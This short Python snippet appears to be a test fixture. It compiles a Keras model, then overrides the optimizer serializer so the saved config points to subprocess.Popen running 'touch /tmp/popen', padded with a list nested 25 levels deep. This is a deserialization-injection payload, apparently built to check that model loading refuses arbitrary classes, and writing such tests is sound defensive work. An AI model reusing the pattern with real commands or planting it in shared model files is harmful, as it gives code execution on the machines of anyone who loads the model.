# Tells an optimizer and a loss that are nested deep, and are of other modules.
# grade:
# %% compile_model
import keras, subprocess

def deep(depth):
    value = 1
    for _ in range(depth):
        value = [value]
    return value

def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
    keras.optimizers.serialize = lambda optimizer: {
        "module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", "/tmp/popen"], "deep": deep(25)},
        "registered_name": None,
    }
    return model
